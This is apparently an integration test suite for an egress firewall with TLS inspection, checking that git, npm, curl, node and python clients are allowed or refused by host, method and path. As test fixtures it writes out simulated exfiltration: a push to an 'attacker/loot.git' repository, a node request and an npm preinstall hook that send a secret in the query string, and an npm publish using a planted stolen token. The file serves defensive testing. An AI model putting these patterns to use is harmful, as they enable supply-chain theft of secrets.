/**
 * TLS inspection end to end (issue 13): egress-guard in the runner namespace with method and path rules, a fake
 * GitHub (git smart HTTP on https://allowed.test/git/) and npm registry on the internet side. Real git, curl,
 * npm and node clients, redirected transparently (no proxy variables) and through HTTPS_PROXY. The internet's
 * log is the judge of what arrived. Needs root (namespaces, iptables).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chownSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { stateCaPaths } from '../../certs/ca-store.js';
import type { CloseEvent } from '../../events/schema.js';
import { EGRESS_BIN, NET, PACKAGE, World } from './harness.js';
import { must } from './netns.js';

/** Debian's python3 (PyPI is not reachable: `requests` only if python3-requests is installed). */
const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';
/** GET each URL with urllib (or requests); one JSON line per URL: its status, or the error that stopped it. */
const PYTHON_GET = `
import json, sys
lib = sys.argv[1]
for url in sys.argv[2:]:
    try:
        if lib == 'requests':
            import requests
            r = requests.get(url, timeout=10)
            out = {'status': r.status_code, 'reason': r.headers.get('x-egress-guard-reason')}
        else:
            import urllib.request, urllib.error
            try:
                with urllib.request.urlopen(url, timeout=10) as r:
                    out = {'status': r.status}
            except urllib.error.HTTPError as e:
                out = {'status': e.code, 'reason': e.headers.get('x-egress-guard-reason')}
    except Exception as e:
        out = {'error': repr(e)}
    print(json.dumps(out), flush=True)
`;

let world: World;

before(async () => {
  world = await World.create();
});

after(async () => {
  await world?.close();
});

const ALLOWED = 'allowed.test/git/my-org/** GET,HEAD registry.test allowed.test:80 cdn.test:443';
const DENIED = 'POST allowed.test/git/my-org/app.git/forbidden';

// Each mode with one leaf key type: the default (ECDSA P-256) and leaf-key-type rsa (test/integration/inspection-connect
// runs every key type in both modes).
for (const [mode, keyType] of [
  ['block', 'ecdsa'],
  ['audit', 'rsa'],
] as const) {
  describe(`${mode} mode, ${keyType} leaves`, () => {
    let bundle: string;
    let stateDir: string;
    /** What `egress-guard env --trust-ca` gives a job: the proxy variables and the CA trust variables. */
    let jobEnv: Record<string, string>;
    const gitEnv = () => ({
      GIT_SSL_CAINFO: bundle,
      GIT_TERMINAL_PROMPT: '0',
      GIT_AUTHOR_NAME: 'job',
      GIT_AUTHOR_EMAIL: 'job@x.test',
      GIT_COMMITTER_NAME: 'job',
      GIT_COMMITTER_EMAIL: 'job@x.test',
    });

    before(async () => {
      stateDir = path.join(world.dir, `state-${mode}`);
      mkdirSync(stateDir, { recursive: true });
      chownSync(stateDir, world.sidecarIds.uid, world.sidecarIds.gid);
      await world.startEgressGuard(mode, [], {
        env: {
          EGRESS_ALLOWED_ENDPOINTS: ALLOWED,
          EGRESS_DENIED_ENDPOINTS: DENIED,
          EGRESS_STATE_DIR: stateDir,
          EGRESS_UPSTREAM_CA: world.caFile,
          ...(keyType === 'rsa' && { EGRESS_LEAF_KEY_TYPE: 'rsa' }),
        },
      });
      // What a job is given: egress-guard's CA (generated at start, the policy has path rules) beside the others.
      bundle = path.join(world.dir, `bundle-${mode}.pem`);
      writeFileSync(bundle, readFileSync(stateCaPaths(stateDir).cert, 'utf8') + readFileSync(world.caFile, 'utf8'));
      const exports = await must(process.execPath, [EGRESS_BIN, 'env', '--trust-ca', '--state-dir', stateDir]);
      jobEnv = Object.fromEntries([...exports.matchAll(/^export (\w+)='([^']*)'$/gm)].map((m) => [m[1]!, m[2]!]));
      assert.ok(jobEnv.SSL_CERT_FILE && jobEnv.NODE_EXTRA_CA_CERTS, exports);
    });
    after(async () => {
      await world.stopEgressGuard();
    });

    const arrived = (fragment: string) => world.internetLog().filter((e) => e.type === 'http' && String(e.url).includes(fragment));

    test('a slow ClientHello (500 ms after connect) for an inspected host on an address it shares with an allowed name that is not inspected: inspected and decided by path', async () => {
      // cdn.test (allowed, no path rules) resolved to allowed.test's address: a client silent at that address would be
      // let through by DNS attribution, so the listener peeks only 200 ms there (a server that speaks first is heard
      // sooner). A client whose ClientHello comes later, for allowed.test (path rules), must still be inspected, as
      // it was within the 1 s peek, not refused (block) or relayed uninspected (audit). First in this describe: cdn.test
      // is the first name the DNS resolved to the address (attribution prefers the first allowed one).
      for (const name of ['cdn.test', 'allowed.test']) assert.match((await world.job('dig', ['+short', name])).stdout, /203\.0\.113\.10/);
      const target = '/git/my-org/app.git/info/refs?service=git-upload-pack';
      const script = `const net=require('net'),tls=require('tls'),fs=require('fs');const s=net.connect(443,'203.0.113.10');s.on('error',(e)=>{console.log('tcp '+e.code);process.exit(0)});s.on('connect',()=>setTimeout(()=>{const t=tls.connect({socket:s,servername:'allowed.test',ca:fs.readFileSync(process.env.BUNDLE)},()=>t.write('GET ${target} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'));let out='';t.on('data',(d)=>out+=d);t.on('end',()=>{console.log(out.split('\\r\\n')[0]);process.exit(0)});t.on('error',(e)=>{console.log('tls '+(e.code||e.message));process.exit(0)})},500));setTimeout(()=>{console.log('timeout');process.exit(0)},8000);`;
      const result = await world.job(process.execPath, ['-e', script], { env: { BUNDLE: bundle } });
      assert.match(result.stdout, /^HTTP\/1\.1 200/, result.stdout + result.stderr);
      const event = await world.decision((e) => e.kind === 'transparent' && e.path === '/git/my-org/app.git/info/refs');
      assert.equal(event?.decision, 'allowed', JSON.stringify(event));
      assert.equal(event?.method, 'GET');
    });

    test('a ClientHello after the peek (1.5 s after connect) for an inspected host, at an address a silent client may reach: handed to the inspector and decided by path', async () => {
      // Silent through the peek, the connection is decided by DNS attribution on cdn.test (allowed, no path rules) and
      // its tunnel opened; the late ClientHello names allowed.test, which has path rules. Until 2026-12-01 the late
      // check could not inspect: refused (inspection-required) in block mode. Now the connection is handed over to the
      // inspector, as within the peek, and each request is decided on its path.
      for (const name of ['cdn.test', 'allowed.test']) assert.match((await world.job('dig', ['+short', name])).stdout, /203\.0\.113\.10/);
      const target = `/git/my-org/late-client-hello-${mode}`;
      const script = `const net=require('net'),tls=require('tls'),fs=require('fs');const s=net.connect(443,'203.0.113.10');s.on('error',(e)=>{console.log('tcp '+e.code);process.exit(0)});s.on('connect',()=>setTimeout(()=>{const t=tls.connect({socket:s,servername:'allowed.test',ca:fs.readFileSync(process.env.BUNDLE)},()=>t.write('GET ${target} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'));let out='';t.on('data',(d)=>out+=d);t.on('end',()=>{console.log(out.split('\\r\\n')[0]);process.exit(0)});t.on('error',(e)=>{console.log('tls '+(e.code||e.message));process.exit(0)})},1500));setTimeout(()=>{console.log('timeout');process.exit(0)},8000);`;
      const result = await world.job(process.execPath, ['-e', script], { env: { BUNDLE: bundle } });
      // An answer from the server (its git backend knows no such path), not a reset.
      assert.match(result.stdout, /^HTTP\/1\.1 \d{3}/, result.stdout + result.stderr);
      const event = await world.decision((e) => e.kind === 'transparent' && e.path === target);
      assert.equal(event?.decision, 'allowed', JSON.stringify(event));
      assert.equal(event?.method, 'GET');
      assert.ok(arrived(`late-client-hello-${mode}`).length > 0, 'the request reached the server');
    });

    test('a ClientHello 1.5 s after connect, at an address only an inspected host resolved to: waited for, inspected and decided by path', async () => {
      // registry.test (GET,HEAD: inspected) is the only name resolved to its address, so a client silent there would be
      // refused (it cannot be inspected). Until 2026-12-01 block mode refused it once the 1 s peek ended
      // (inspection-required), so a client slowed past it (a runner's CPU taken by the build) was reset, and audit mode
      // reported the silent start would-block. Now the listener waits for its first bytes there (up to 10 s from
      // connect; nothing is connected meanwhile).
      assert.match((await world.job('dig', ['+short', 'registry.test'])).stdout, /203\.0\.113\.20/);
      const target = `/${PACKAGE.name}`;
      const script = `const net=require('net'),tls=require('tls'),fs=require('fs');const s=net.connect(443,'203.0.113.20');s.on('error',(e)=>{console.log('tcp '+e.code);process.exit(0)});s.on('connect',()=>setTimeout(()=>{const t=tls.connect({socket:s,servername:'registry.test',ca:fs.readFileSync(process.env.BUNDLE)},()=>t.write('GET ${target} HTTP/1.1\\r\\nHost: registry.test\\r\\nConnection: close\\r\\n\\r\\n'));let out='';t.on('data',(d)=>out+=d);t.on('end',()=>{console.log(out.split('\\r\\n')[0]);process.exit(0)});t.on('error',(e)=>{console.log('tls '+(e.code||e.message));process.exit(0)})},1500));setTimeout(()=>{console.log('timeout');process.exit(0)},8000);`;
      const since = Date.now();
      const result = await world.job(process.execPath, ['-e', script], { env: { BUNDLE: bundle } });
      assert.match(result.stdout, /^HTTP\/1\.1 200/, result.stdout + result.stderr);
      const event = await world.decision((e) => e.kind === 'transparent' && e.host === 'registry.test' && e.path === target && Date.parse(e.time) >= since);
      assert.equal(event?.decision, 'allowed', JSON.stringify(event));
      assert.equal(event?.method, 'GET');
      // Audit mode waits too where the attributed name is inspected: no would-block on the silent start.
      const silentStart = world.events().filter((e) => e.event === 'decision' && e.ip === NET.registry && e.reason === 'inspection-required' && Date.parse(e.time) >= since);
      assert.deepEqual(silentStart, [], 'no decision on the silent start');
    });

    test('git clone and push to the allowed repository work, inspected and decided per request', async () => {
      const dir = path.join(world.dir, `clone-${mode}`);
      const clone = await world.job('git', ['clone', '-q', 'https://allowed.test/git/my-org/app.git', dir], { env: gitEnv() });
      assert.equal(clone.code, 0, clone.stderr);
      writeFileSync(path.join(dir, 'change.txt'), `${mode}\n`);
      await world.job('git', ['-C', dir, 'add', 'change.txt'], { env: gitEnv() });
      await world.job('git', ['-C', dir, 'commit', '-q', '-m', `change in ${mode}`], { env: gitEnv() });
      const push = await world.job('git', ['-C', dir, 'push', '-q', 'origin', 'HEAD:main'], { env: gitEnv() });
      assert.equal(push.code, 0, push.stderr);
      assert.ok(arrived('/git/my-org/app.git/git-receive-pack').length > 0, 'the pack reached the server');
      const event = await world.decision((e) => e.kind === 'transparent' && e.path === '/git/my-org/app.git/git-receive-pack');
      assert.equal(event?.decision, 'allowed');
      assert.equal(event?.method, 'POST');
    });

    test("git push to the attacker's repository: refused with 403 (block), no pack reaches it", async () => {
      const dir = path.join(world.dir, `clone-${mode}`);
      const push = await world.job('git', ['-C', dir, 'push', '-q', 'https://allowed.test/git/attacker/loot.git', 'HEAD:main'], { env: gitEnv() });
      const event = await world.decision((e) => e.kind === 'transparent' && typeof e.path === 'string' && e.path.startsWith('/git/attacker/loot.git'));
      assert.equal(event?.reason, 'path-not-allowed');
      if (mode === 'block') {
        assert.notEqual(push.code, 0);
        assert.match(push.stderr, /403/);
        assert.equal(arrived('/git/attacker/').length, 0, 'nothing reached the attacker repository');
      } else {
        assert.equal(push.code, 0, push.stderr);
        assert.equal(event?.decision, 'would-block');
      }
    });

    test('npm-style: GET passes, a PUT (publish) is refused and never arrives; curl through HTTPS_PROXY too', async () => {
      // curl trusting egress-guard's CA; the status it got.
      const status = (args: string[]) => world.job('curl', ['-sS', '--max-time', '10', '--cacert', bundle, '-o', '/dev/null', '-w', '%{http_code}', ...args]);
      const get = await status(['https://registry.test/left-pad-lite']);
      assert.equal(get.stdout, '200', get.stderr);
      const put = await status(['-X', 'PUT', '-d', '{}', 'https://registry.test/evil-pkg']);
      const viaProxy = await status(['-x', 'http://127.0.0.1:3128', '-X', 'PUT', '-d', '{}', 'https://registry.test/evil-proxied']);
      assert.equal((await world.decision((e) => e.path === '/evil-pkg'))?.reason, 'method-not-allowed');
      assert.equal((await world.decision((e) => e.kind === 'connect' && e.path === '/evil-proxied'))?.reason, 'method-not-allowed');
      if (mode === 'block') {
        assert.equal(put.stdout, '403');
        assert.equal(viaProxy.stdout, '403');
        assert.equal(arrived('/evil-').length, 0);
      }
    });

    test('a preinstall-style node https.get, redirected transparently, is decided by path', async () => {
      const script = `require('https').get('https://allowed.test/git/attacker/loot.git/info/refs?token=s3cret', (r) => { console.log(r.statusCode); r.resume(); }).on('error', (e) => console.log(e.code));`;
      const result = await world.job(process.execPath, ['-e', script], { env: { NODE_EXTRA_CA_CERTS: bundle } });
      assert.equal(result.stdout.trim(), mode === 'block' ? '403' : '200');
      const event = await world.decision((e) => e.path === '/git/attacker/loot.git/info/refs');
      assert.equal(event?.reason, 'path-not-allowed');
      assert.ok(!JSON.stringify(world.events()).includes('s3cret'), 'the query string is not logged');
    });

    const npmEnv = (name: string) => ({ ...jobEnv, npm_config_cache: path.join(world.dir, `npm-cache-${mode}-${name}`), npm_config_update_notifier: 'false' });

    test('npm install through the inspected registry works; its preinstall https.get (redirected) is decided by path', async () => {
      const project = path.join(world.dir, `npm-install-${mode}`);
      mkdirSync(project, { recursive: true });
      // A preinstall that ignores the proxy variables, as node 20 does: its requests are redirected transparently.
      // node 24 honours them when NODE_USE_ENV_PROXY=1, which `egress-guard env` exports; the script drops it, as a
      // script that goes around the proxy would, so that node 24 goes the same way.
      const get = (url: string) =>
        `require('https').get('${url}', (r) => { console.log('preinstall', r.statusCode, '${url}'); r.resume(); }).on('error', (e) => console.log('preinstall', e.code, '${url}'))`;
      const preinstall = [get('https://allowed.test/git/my-org/app.git/info/refs?service=git-upload-pack'), get('https://allowed.test/git/attacker/preinstall-drop?d=s3cret')].join(
        ';',
      );
      writeFileSync(
        path.join(project, 'package.json'),
        JSON.stringify({
          name: 'job',
          version: '1.0.0',
          private: true,
          scripts: { preinstall: `env -u NODE_USE_ENV_PROXY node -e "${preinstall}"` },
          dependencies: { [PACKAGE.name]: PACKAGE.version },
        }),
      );
      const result = await world.job('npm', ['install', '--no-audit', '--no-fund', '--foreground-scripts', '--registry', 'https://registry.test/'], {
        cwd: project,
        timeoutMs: 90_000,
        env: npmEnv('install'),
      });
      assert.equal(result.code, 0, `npm install failed: ${result.stderr}`);
      assert.ok(existsSync(path.join(project, 'node_modules', PACKAGE.name, 'package.json')), 'the package came from registry.test');
      const tarball = await world.decision((e) => e.host === 'registry.test' && e.path === `/${PACKAGE.name}/-/${PACKAGE.name}-${PACKAGE.version}.tgz`);
      assert.equal(tarball?.decision, 'allowed');
      assert.equal(tarball?.method, 'GET');
      // The same host, two paths: the one under my-org passes in both modes, the other is refused (block).
      assert.match(result.stdout, /preinstall 200 https:\/\/allowed\.test\/git\/my-org\//);
      // Audit lets it through: git http-backend answers 404 (there is no such repository).
      assert.match(result.stdout, new RegExp(`preinstall ${mode === 'block' ? 403 : 404} https://allowed\\.test/git/attacker/preinstall-drop`));
      const refused = await world.decision((e) => e.kind === 'transparent' && e.path === '/git/attacker/preinstall-drop');
      assert.equal(refused?.reason, 'path-not-allowed');
      assert.equal(refused?.decision, mode === 'block' ? 'blocked' : 'would-block');
      assert.equal(arrived('/git/attacker/preinstall-drop').length, mode === 'block' ? 0 : 1);
    });

    test('npm publish (PUT) is refused with a 403 npm prints with the reason; no PUT reaches the registry', async () => {
      const name = `evil-pkg-${mode}`;
      const project = path.join(world.dir, `npm-publish-${mode}`);
      mkdirSync(project, { recursive: true });
      writeFileSync(path.join(project, 'package.json'), JSON.stringify({ name, version: '6.6.6', main: 'index.js' }));
      writeFileSync(path.join(project, 'index.js'), 'module.exports = 1;\n');
      // A stolen token, as the worm had: npm sends it, egress-guard refuses the PUT before it leaves.
      writeFileSync(path.join(project, '.npmrc'), 'registry=https://registry.test/\n//registry.test/:_authToken=stolen-token\n');
      const result = await world.job('npm', ['publish', '--no-provenance'], { cwd: project, timeoutMs: 90_000, env: npmEnv('publish') });
      const puts = world.internetLog().filter((e) => e.type === 'http' && e.method === 'PUT' && e.host === 'registry.test' && e.url === `/${name}`);
      // npm reads the packument first (GET, allowed); the publish is the PUT.
      const event = await world.decision((e) => e.host === 'registry.test' && e.method === 'PUT' && e.path === `/${name}`);
      assert.equal(event?.reason, 'method-not-allowed');
      if (mode === 'block') {
        assert.notEqual(result.code, 0, 'npm publish must fail');
        assert.match(result.stderr, new RegExp(`403 Forbidden - PUT https://registry.test/${name}`), result.stderr);
        assert.match(result.stderr, /egress-guard: .*PUT/, `npm prints egress-guard's reason: ${result.stderr}`);
        assert.equal(puts.length, 0, 'no PUT reached the registry');
      } else {
        assert.equal(result.code, 0, `audit mode never breaks a job: ${result.stderr}`);
        assert.equal(event?.decision, 'would-block');
        assert.equal(puts.length, 1);
      }
    });

    const python = (lib: 'urllib' | 'requests', env: Record<string, string>, urls: string[]) =>
      world.job(PYTHON, ['-c', PYTHON_GET, lib, ...urls], { env, timeoutMs: 40_000 }).then((r) => {
        const lines = r.stdout.trim().split('\n').filter(Boolean);
        assert.equal(lines.length, urls.length, `python: ${r.stdout}${r.stderr}`);
        return lines.map((line) => JSON.parse(line) as { status?: number; reason?: string; error?: string });
      });

    for (const lib of ['urllib', 'requests'] as const) {
      const hasLib = lib === 'urllib' || (existsSync(PYTHON) && spawnSync(PYTHON, ['-c', 'import requests']).status === 0);
      test(
        `python ${lib} with the CA from egress-guard env: an allowed path passes, a refused one gets 403`,
        { skip: !hasLib && 'python3-requests is not installed' },
        async () => {
          const [allowed, refused] = await python(lib, jobEnv, ['https://registry.test/left-pad-lite', `https://allowed.test/git/attacker/py-${lib}`]);
          assert.equal(allowed?.status, 200, JSON.stringify(allowed));
          const event = await world.decision((e) => e.path === `/git/attacker/py-${lib}`);
          assert.equal(event?.reason, 'path-not-allowed');
          if (mode === 'block') {
            assert.equal(refused?.status, 403, JSON.stringify(refused));
            assert.match(refused?.reason ?? '', /allowed\.test/);
            assert.equal(arrived(`/git/attacker/py-${lib}`).length, 0);
          } else assert.equal(refused?.status, 404, `git http-backend's own answer: ${JSON.stringify(refused)}`);
        },
      );
    }

    test('a python client that does not trust the CA fails closed: client-rejected-certificate', async () => {
      const rejected = () => world.events().filter((e): e is CloseEvent => e.event === 'close' && e.error === 'client-rejected-certificate' && e.host === 'registry.test').length;
      const before = rejected();
      // Its own roots (the test internet's CA and the system's), not egress-guard's: transparently redirected.
      const [result] = await python('urllib', { SSL_CERT_FILE: world.caFile }, ['https://registry.test/left-pad-lite?py-untrusted']);
      assert.match(result?.error ?? '', /CERTIFICATE_VERIFY_FAILED/, JSON.stringify(result));
      const deadline = Date.now() + 3000;
      while (rejected() === before && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      assert.equal(rejected(), before + 1, 'one close event says client-rejected-certificate');
      assert.equal(arrived('py-untrusted').length, 0, 'nothing reached the registry');
    });

    test('a WebSocket to an inspected host, redirected transparently: decided on its path, relayed after 101 when allowed', async () => {
      const helper = pathToFileURL(path.join(path.dirname(fileURLToPath(import.meta.url)), '../helpers/websocket.js')).href;
      const script = `import tls from 'node:tls'; import { webSocketExchange } from '${helper}';
        for (const path of ['/git/my-org/ws-${mode}', '/git/attacker/ws-${mode}']) {
          const socket = tls.connect({ host: 'allowed.test', port: 443, servername: 'allowed.test', ALPNProtocols: ['http/1.1'] });
          await new Promise((resolve, reject) => socket.once('secureConnect', resolve).once('error', reject));
          const leafKey = socket.getPeerX509Certificate().publicKey.asymmetricKeyType;
          const r = await webSocketExchange(socket, { host: 'allowed.test', path, message: 'hi' });
          console.log(JSON.stringify({ path, status: r.status, echoed: r.echoed ?? null, leafKey }));
        }`;
      const result = await world.job(process.execPath, ['--input-type=module', '-e', script], { env: { NODE_EXTRA_CA_CERTS: bundle } });
      const [own, attacker] = result.stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { status: number; echoed: string | null; leafKey: string });
      assert.deepEqual(own, { path: `/git/my-org/ws-${mode}`, status: 101, echoed: 'echo: hi', leafKey: keyType === 'ecdsa' ? 'ec' : 'rsa' }, result.stderr);
      const allowed = await world.decision((e) => e.kind === 'transparent' && e.path === `/git/my-org/ws-${mode}`);
      assert.equal(allowed?.decision, 'allowed');
      const refused = await world.decision((e) => e.kind === 'transparent' && e.path === `/git/attacker/ws-${mode}`);
      assert.equal(refused?.reason, 'path-not-allowed');
      const upgraded = world.internetLog().filter((e) => e.type === 'websocket' && String(e.url).includes(`ws-${mode}`));
      if (mode === 'block') {
        assert.equal(attacker?.status, 403);
        assert.deepEqual(
          upgraded.map((e) => e.url),
          [`/git/my-org/ws-${mode}`],
          'only the allowed upgrade reached the server',
        );
      } else {
        assert.equal(attacker?.status, 101);
        assert.equal(upgraded.length, 2);
      }
      await new Promise((r) => setTimeout(r, 300));
      const closed = world.events().find((e): e is CloseEvent => e.event === 'close' && e.id === allowed?.id);
      assert.equal(closed?.status, 101);
      assert.ok(closed!.bytes_in > 0 && closed!.bytes_out > 0, JSON.stringify(closed));
    });

    test('a client that does not trust the CA fails closed, and the event says so', async () => {
      const result = await world.job('curl', ['-sS', '--max-time', '10', '--cacert', world.caFile, 'https://allowed.test/git/my-org/app.git/info/refs']);
      assert.notEqual(result.code, 0);
      await new Promise((r) => setTimeout(r, 300));
      assert.ok(world.events().some((e) => e.event === 'close' && e.error === 'client-rejected-certificate'));
    });
  });
}
